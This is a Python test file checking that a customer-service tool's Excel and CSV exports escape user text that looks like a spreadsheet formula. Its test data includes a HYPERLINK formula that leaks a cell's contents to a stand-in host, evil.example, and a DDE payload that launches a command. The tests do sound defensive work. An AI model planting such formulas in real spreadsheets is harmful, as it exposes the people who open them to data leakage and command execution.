"""Hole 11: user text never becomes a spreadsheet formula in any Excel or CSV export.

A buyer named ``=HYPERLINK(…)`` used to be a live formula in the KPI workbook. Every
human-facing export writes through :mod:`kefu.io.cells`; numbers stay numbers.
"""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from kefu.credit.kpi import parse_scheme
from kefu.duty.engine import MessageOut, TaskOut
from kefu.io import cells
from kefu.io.duty_csv import read_roster, write_messages, write_tasks
from kefu.io.roster_csv import write_roster
from kefu.io.roster_export import write_xlsx
from kefu.plan.roster.types import SLOTS_PER_DAY, Agent, Assignment, RosterProblem, Shift
from kefu.service.credit.actions_pay import kpi_workbook
from kefu.store.models.commerce import Order
from kefu.store.models.live import Message
from kefu.store.models.org import Agent as AgentRow

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领红包")'


@pytest.mark.parametrize(("text", "formula"), [
    ("=1+1", True), ("+cmd", True), ("-2+3", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
    ("-5", False), ("+3.5", False), ("-1e3", False), (".5", False), ("", False), ("小王", False), ("a=b", False),
    ("-", True), ("=", True),
])  # fmt: skip
def test_formula_like(text: str, formula: bool) -> None:
    assert cells.is_formula_like(text) is formula
    assert cells.csv_cell(text) == ("'" + text if formula else text)
    assert cells.unquote(cells.csv_cell(text)) == text


def test_numbers_stay_numbers() -> None:
    assert cells.csv_row([-5, 0.5, None, "-5", EVIL]) == [-5, 0.5, None, "-5", "'" + EVIL]
    assert cells.unquote("'hello") == "'hello"  # an apostrophe kefu did not add stays


def _no_formula(path: Path) -> list[tuple[str, str, object]]:
    """Every cell of the workbook that openpyxl reads back as a formula (should be none)."""
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]  # fmt: skip


def test_kpi_workbook_keeps_a_formula_named_buyer_as_text(session: Session, tmp_path: Path) -> None:
    t = datetime(2026, 11, 3, 2, tzinfo=UTC)
    session.add(AgentRow(id="kf01", name="一号"))
    session.flush()
    session.add_all([
        Message(shop_id="s1", buyer=EVIL, agent_id="kf01", ts=t, direction="in", text="在吗"),
        Message(shop_id="s1", buyer=EVIL, agent_id="kf01", ts=t.replace(minute=1), direction="out", text="在"),
        Order(id="A1", shop_id="s1", buyer=EVIL, created_at=t.replace(minute=30), paid_at=t.replace(minute=40),
              amount_fen=20000, status="交易成功"),
    ])  # fmt: skip
    session.flush()
    scheme = parse_scheme("name: t\nitems:\n  - {metric: sales_fen, weight: 100, target: 20000}\n"
                          "grades: {by: thresholds, thresholds: [[100, A], [0, B]]}\n"
                          "pay: {base_fen: 300000, point_fen: 100, commission: '0.01'}\n")  # fmt: skip
    path, _ = kpi_workbook(session, "2026-11", tmp_path / "kpi.xlsx", scheme)
    assert _no_formula(path) == []
    orders = load_workbook(path)["orders"]
    header = [c.value for c in orders[1]]
    row = orders[2]
    buyer = row[header.index("buyer")]
    assert (buyer.value, buyer.data_type, buyer.quotePrefix) == (EVIL, "s", True)
    sale = row[header.index("sale_fen")]
    assert (sale.value, sale.data_type) == (20000, "n")


def test_roster_exports_keep_agent_names_and_codes_as_text(tmp_path: Path) -> None:
    shifts = [Shift("@白", 540, 1020)]
    problem = RosterProblem(date(2026, 3, 2), 1, [Agent("=cmd|'/C calc'!A0", ("s",)), Agent("-B", ("s",))],
                            shifts, {"s": [0.0] * SLOTS_PER_DAY})  # fmt: skip
    roster: dict[str, list[Assignment | None]] = {"=cmd|'/C calc'!A0": [Assignment("@白", "s")], "-B": [None]}
    write_xlsx(tmp_path / "r.xlsx", problem, roster)
    assert _no_formula(tmp_path / "r.xlsx") == []
    sheet = load_workbook(tmp_path / "r.xlsx")["2026-03"]
    assert [c.value for c in sheet[2]][:3] == ["=cmd|'/C calc'!A0", "@白", 8]
    out = tmp_path / "roster.csv"
    write_roster(out, roster, date(2026, 3, 2), 1)
    assert out.read_text(encoding="utf-8").splitlines() == [
        "agent,date,shift", "'=cmd|'/C calc'!A0,2026-03-02,'@白", "'-B,2026-03-02,"]
    assert read_roster(out) == [("=cmd|'/C calc'!A0", date(2026, 3, 2), "@白"), ("-B", date(2026, 3, 2), "")]


def test_duty_csv_outputs_neutralise_formulas(tmp_path: Path) -> None:
    at = datetime(2026, 11, 20, 2, tzinfo=UTC)
    write_tasks(tmp_path / "tasks.csv", [TaskOut("r1", "催付", "@SUM(1)", "+a01", at, at, date(2026, 11, 20))])
    write_messages(tmp_path / "messages.csv", [MessageOut("r2", "sms", "-1+1", at, "text", "k")])
    with (tmp_path / "tasks.csv").open(encoding="utf-8") as fh:
        assert list(csv.reader(fh))[1][:3] == ["催付", "'@SUM(1)", "'+a01"]
    with (tmp_path / "messages.csv").open(encoding="utf-8") as fh:
        assert list(csv.reader(fh))[1][:2] == ["sms", "'-1+1"]
